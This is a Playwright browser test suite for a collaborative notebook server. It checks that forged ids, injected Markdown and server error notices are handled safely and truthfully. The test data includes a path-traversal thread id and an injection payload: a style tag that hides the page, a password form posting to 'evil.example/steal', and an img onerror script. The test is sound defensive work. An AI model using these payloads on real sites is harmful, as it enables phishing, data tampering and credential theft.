"""The web page's defences and honesty, in real Chromium: ids from a file never leave their URL
segment, Markdown cannot restyle the page or plant forms (and the pages carry a CSP), the
server's notices (deleted, renamed, invalid file, too large, storage down) reach the person and
stop the page where retrying cannot help, and "All changes saved" only ever means on the server.

Notices the server sends are injected into the real socket with Playwright's WebSocket routes
(the page talks to a real server; the route forwards every frame and adds the notice)."""

from __future__ import annotations

import re
from typing import Any

import nbformat

from collab_server.rooms.protocol import raw_json
from conftest import read_notebook, write_notebook
from support.browser import needs_chromium
from support.yclient import wait_until

pytestmark = needs_chromium

NOTEBOOK_ROOM = re.compile(r".*/api/collaboration/room/json:notebook:.*")


class Socket:
    """The page's notebook-room sockets, each forwarded to the real server."""

    def __init__(self) -> None:
        self.routes: list[tuple[Any, Any]] = []
        self.drop = False  # drop what the page sends (the server never receives it)
        self.dropped: list[bytes] = []

    async def handle(self, route: Any) -> None:
        server = route.connect_to_server()
        self.routes.append((route, server))

        def from_page(message: str | bytes) -> None:
            if self.drop and isinstance(message, bytes):
                self.dropped.append(message)
                return
            server.send(message)

        route.on_message(from_page)

    @property
    def page_side(self) -> Any:
        return self.routes[-1][0]

    async def notice(self, payload: dict[str, Any]) -> None:
        self.page_side.send(raw_json(payload))

    async def close(self, code: int, reason: str = "") -> None:
        route, server = self.routes[-1]
        await route.close(code=code, reason=reason)
        await server.close()


async def open_routed(browser: Any, server: Any, path: str, token: str, socket: Socket) -> Any:
    context = await browser.new_context(viewport={"width": 1280, "height": 800})
    page = await context.new_page()
    page.errors = []
    page.on("pageerror", lambda e: page.errors.append(str(e)))
    await page.route_web_socket(NOTEBOOK_ROOM, socket.handle)
    await page.goto(f"{server.http_url}/notebooks/{path}?token={token}")
    await page.wait_for_selector('[data-testid="connection"][data-state="connected"]')
    return page


async def open_notebook(browser: Any, server: Any, path: str, token: str) -> Any:
    return await open_routed(browser, server, path, token, Socket())


def thread_metadata(thread_id: str) -> dict[str, Any]:
    author = {"id": "alice", "name": "Alice"}
    comment = {
        "id": "c1", "author": author, "body": "planted", "createdAt": "2026-01-01T00:00:00Z",
        "editedAt": None, "deleted": False,
    }  # fmt: skip
    thread = {
        "id": thread_id, "target": {"type": "notebook"}, "anchor": "attached", "status": "open",
        "resolvedBy": None, "resolvedAt": None, "createdAt": "2026-01-01T00:00:00Z",
        "author": author, "comments": [comment],
    }  # fmt: skip
    return {"collab": {"comments": {"schemaVersion": 1, "threads": [thread]}}}


async def test_a_forged_thread_id_stays_inside_its_url_segment(browser, server):
    victim = write_notebook(server.root, ["precious"], "a/victim.ipynb")
    forged = "../../../../../api/contents/a/victim.ipynb#"
    nb = nbformat.v4.new_notebook(metadata=thread_metadata(forged))
    nb.cells = [nbformat.v4.new_code_cell("x")]
    (server.root / "forged").mkdir(exist_ok=True)
    nbformat.write(nb, server.root / "forged/planted.ipynb")
    page = await open_notebook(browser, server, "forged/planted.ipynb", "alice-token")
    requests: list[tuple[str, str]] = []
    page.on("request", lambda r: requests.append((r.method, r.url)))
    await page.wait_for_selector(".comments .threads :is(.thread, .empty)")
    shown = await page.query_selector_all(".thread")
    assert shown, "the planted thread is shown (under its own id or the server's replacement)"
    thread_id = await shown[0].get_attribute("data-thread")
    assert thread_id is not None
    await page.click(".thread button:has-text('Delete thread')")
    async with page.expect_request(lambda r: r.method == "DELETE") as sent:
        await page.click("dialog button:has-text('Delete thread')")
    url = (await sent.value).url
    prefix = f"{server.http_url}/api/collab/comments/forged/planted.ipynb/"
    assert url.startswith(prefix)
    if thread_id == forged:  # an older server kept the id: the page keeps it in its segment
        assert "..%2F..%2F" in url and url.endswith("%23")
    else:  # the server replaced the id that is not a UUID
        assert url == prefix + thread_id
    assert not any("/api/contents/a/victim" in url for _, url in requests)
    assert read_notebook(server.root, victim).cells[0].source == "precious"


async def test_markdown_and_comments_cannot_restyle_or_plant_forms_and_pages_have_a_csp(
    browser, server
):
    evil = (
        "# Hello\n\n<style>body { display: none !important }</style>\n\n"
        '<form action="https://evil.example/steal"><input name="password">'
        "<button>Sign in</button></form>\n\n"
        '<a formaction="https://evil.example/x" action="https://evil.example/y">link</a>\n'
        "<img src=x onerror=\"document.title='pwned'\">"
    )
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(evil), nbformat.v4.new_code_cell("x")]
    (server.root / "web").mkdir(exist_ok=True)
    nbformat.write(nb, server.root / "web/evil.ipynb")
    async with server.client("alice-token") as c:
        r = await c.post(
            "/api/collab/comments/web/evil.ipynb",
            json={"target": {"type": "notebook"}, "body": evil},
        )
        assert r.status_code == 201
    context = await browser.new_context(viewport={"width": 1280, "height": 800})
    page = await context.new_page()
    response = await page.goto(f"{server.http_url}/notebooks/web/evil.ipynb?token=alice-token")
    await page.wait_for_selector(".markdown h1:has-text('Hello')")
    await page.wait_for_selector(".thread .body")
    policy = (await response.all_headers())["content-security-policy"]  # after the redirect
    for directive in (
        "script-src 'self'", "base-uri 'none'", "object-src 'none'", "form-action 'self'",
    ):  # fmt: skip
        assert directive in policy
    for where in ('[data-testid="markdown"]', ".thread .body"):
        html = await page.inner_html(where)
        assert "<style" not in html and "<form" not in html and "<input" not in html
        assert "action=" not in html and "formaction" not in html and "onerror" not in html
    assert await page.evaluate("getComputedStyle(document.body).display") != "none"
    assert await page.title() != "pwned"
    await page.screenshot(path="tests/artifacts/evil-markdown.png")


async def test_a_markdown_cell_shows_rendered_text_until_edited(browser, server):
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Title\n\nSome *text*"),
        nbformat.v4.new_code_cell("a"),
    ]
    (server.root / "web").mkdir(exist_ok=True)
    nbformat.write(nb, server.root / "web/md-mode.ipynb")
    page = await open_notebook(browser, server, "web/md-mode.ipynb", "alice-token")
    source = ".cell.markdown .cm-editor"
    await page.wait_for_selector(".markdown h1:has-text('Title')")
    assert not await page.is_visible(source)  # rendered only: no raw "# Title" above it
    await page.dblclick(".markdown")
    await page.wait_for_selector(source, state="visible")
    assert not await page.is_visible(".cell.markdown .markdown")
    await page.keyboard.press("Escape")
    await page.wait_for_selector(source, state="hidden")
    await page.focus(".cell.markdown .markdown")
    await page.keyboard.press("Enter")  # Enter edits, as in JupyterLab
    await page.wait_for_selector(source, state="visible")
    await page.keyboard.press("Shift+Enter")
    await page.wait_for_selector(source, state="hidden")
    await page.screenshot(path="tests/artifacts/markdown-rendered.png")


async def test_the_read_only_layout_keeps_cells_wide_and_comments_beside(browser, server):
    path = write_notebook(server.root, ["a = 1", "b = 2"], "web/layout.ipynb")
    for token in ("commenter-token", "viewer-token"):
        page = await open_notebook(browser, server, path, token)
        await page.wait_for_selector('[data-testid="read-only"]')
        # The notice shows with the room's first answer; the cells draw once its content is in.
        await page.wait_for_selector(".cell .cm-content")
        cell = await (await page.query_selector(".cell")).bounding_box()
        notice = await (await page.query_selector('[data-testid="read-only"]')).bounding_box()
        comments = await (await page.query_selector(".comments")).bounding_box()
        assert cell["width"] > comments["width"] * 1.5  # the cells take the wide column
        assert comments["x"] >= cell["x"] + cell["width"]  # comments beside them
        assert comments["y"] < cell["y"] + cell["height"]  # not below the notebook
        assert abs(notice["x"] - cell["x"]) < 2 and notice["y"] < cell["y"]
        await page.screenshot(path=f"tests/artifacts/read-only-{token.split('-')[0]}.png")


async def stopped_for_good(page: Any, socket: Socket) -> None:
    """Every timer the page set for the next minute has run, and no socket was reopened."""
    await page.clock.run_for(60_000)
    await page.evaluate("fetch('/api/status')")  # a round trip after those timers
    assert len(socket.routes) == 1


async def test_a_deleted_notebook_stops_editing_and_reconnecting(browser, server):
    path = write_notebook(server.root, ["soon gone"], "web/deleted.ipynb")
    socket = Socket()
    context = await browser.new_context()
    page = await context.new_page()
    await page.clock.install()
    await page.route_web_socket(NOTEBOOK_ROOM, socket.handle)
    await page.goto(f"{server.http_url}/notebooks/{path}?token=alice-token")
    await page.wait_for_selector('[data-testid="connection"][data-state="connected"]')
    await page.wait_for_selector(".cell .cm-content")
    await socket.notice({"type": "error", "reason": "deleted", "message": "It was deleted."})
    await socket.close(4404, "deleted")
    await page.wait_for_selector('[data-testid="banner"]:has-text("This notebook was deleted")')
    await page.wait_for_selector('[data-testid="connection"][data-state="stopped"]')
    assert await page.get_attribute(".cell .cm-content", "contenteditable") == "false"
    assert not await page.is_visible("text=+ Code")
    await stopped_for_good(page, socket)
    await page.screenshot(path="tests/artifacts/deleted.png")


async def test_an_invalid_file_says_so_and_does_not_retry(browser, server):
    (server.root / "web").mkdir(exist_ok=True)
    (server.root / "web/broken.ipynb").write_text('{"cells": [ this is not json')
    socket = Socket()
    context = await browser.new_context()
    page = await context.new_page()
    await page.clock.install()
    await page.route_web_socket(NOTEBOOK_ROOM, socket.handle)
    await page.goto(f"{server.http_url}/notebooks/web/broken.ipynb?token=alice-token")
    banner = page.locator('[data-testid="banner"]')
    await banner.filter(has_text="This file is not a valid notebook").wait_for()
    await stopped_for_good(page, socket)
    await page.screenshot(path="tests/artifacts/invalid-file.png")


async def test_a_close_code_alone_stops_the_page_too(browser, server):
    path = write_notebook(server.root, ["x"], "web/old-server.ipynb")
    socket = Socket()
    page = await open_routed(browser, server, path, "alice-token", socket)
    await socket.close(4403, "Access revoked")  # no notice first, as older servers do
    await page.wait_for_selector('[data-testid="banner"]:has-text("access to this notebook")')
    await page.wait_for_selector('[data-testid="connection"][data-state="stopped"]')


async def test_renamed_too_large_storage_and_save_failed_notices(browser, server):
    path = write_notebook(server.root, ["x"], "web/notices.ipynb")
    socket = Socket()
    page = await open_routed(browser, server, path, "alice-token", socket)
    await socket.notice({"type": "renamed", "path": "web/new name.ipynb"})
    await page.wait_for_selector('[data-testid="title"]:has-text("new name.ipynb")')
    assert page.url.endswith("/notebooks/web/new%20name.ipynb")
    await socket.notice({"type": "error", "reason": "store_unavailable", "message": "disk full"})
    await page.wait_for_selector('[data-testid="banner"]:has-text("storage")')
    await socket.notice({"type": "save_failed", "message": "disk full"})
    await page.wait_for_selector('[data-testid="banner"]:has-text("could not save")')
    await page.click(".cell .cm-content")
    await page.keyboard.type("big ")
    await socket.notice({"type": "error", "reason": "too_large", "message": "1 MB at most"})
    await socket.close(1009, "too large")
    await page.wait_for_selector('[data-testid="banner"]:has-text("too large")')
    await page.wait_for_selector('[data-testid="banner"] button:has-text("Reload")')
    assert "All changes saved" not in await page.inner_text('[data-testid="save-state"]')
    await page.screenshot(path="tests/artifacts/too-large.png")


async def test_saved_only_means_saved_on_the_server(browser, server):
    path = write_notebook(server.root, ["kept"], "web/honest.ipynb")
    socket = Socket()
    page = await open_routed(browser, server, path, "alice-token", socket)
    await page.wait_for_selector(".cell .cm-content")
    socket.drop = True  # from now on, nothing the page sends reaches the server
    await page.click(".cell .cm-content")
    await page.keyboard.press("End")
    await page.keyboard.type(" lost?")
    save = page.locator('[data-testid="save-state"]')
    # Barrier: the page asked the server to save (after its debounce); it got no answer.
    await page.wait_for_selector('[data-testid="save-state"][data-state="saving"]')
    # The route hears of the frame through its own message, which may come after the page's
    # state: wait for it.
    await wait_until(lambda: any(frame[:1] == b"\x02" for frame in socket.dropped), 10)
    assert await save.inner_text() != "All changes saved"
    assert read_notebook(server.root, path).cells[0].source == "kept"
    # The socket drops; the page reconnects, re-syncs, asks again, and only then says saved.
    socket.drop = False
    await socket.close(4000, "dropped")
    await page.wait_for_selector('[data-testid="save-state"]:has-text("All changes saved")')
    assert read_notebook(server.root, path).cells[0].source == "kept lost?"
    assert len(socket.routes) == 2


async def test_viewers_never_show_a_save_state(browser, server):
    path = write_notebook(server.root, ["x"], "web/viewer-state.ipynb")
    page = await open_notebook(browser, server, path, "viewer-token")
    await page.wait_for_selector(".cell .cm-content")
    assert await page.inner_text('[data-testid="save-state"]') == ""


async def test_a_storage_failure_is_shown_and_the_page_comes_back(browser, server):
    path = write_notebook(server.root, ["x"], "web/storage.ipynb")
    socket = Socket()
    page = await open_routed(browser, server, path, "alice-token", socket)
    await socket.close(1011, "internal error")  # an older server: a close code, no notice
    await page.wait_for_selector('[data-testid="banner"]:has-text("storage")')
    await wait_until(lambda: len(socket.routes) == 2, 10)  # it retries (with back-off)
    await page.wait_for_selector('[data-testid="connection"][data-state="connected"]')
    await page.keyboard.press("Control+s")
    await page.wait_for_selector('[data-testid="save-state"]:has-text("All changes saved")')
    await page.wait_for_selector('[data-testid="banner"]', state="detached")
